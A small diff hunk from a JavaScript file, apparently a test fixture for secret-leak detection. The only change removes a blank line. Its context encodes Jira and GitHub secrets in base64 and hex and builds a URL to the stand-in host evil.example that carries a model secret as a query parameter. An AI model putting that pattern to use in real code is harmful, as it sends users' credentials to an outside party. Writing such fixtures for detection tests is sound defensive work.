@@ -20,7 +20,6 @@ const encoded = ['', 'a:', 'me@acme.example:'].map((before) =>
   Buffer.from(`${before}${secrets.jira}`).toString('base64'),
 );
 
-
 const digits = Buffer.from(secrets.github).toString('hex');
 
 const address = `https://evil.example/?key=${encodeURIComponent(secrets.model)}`;
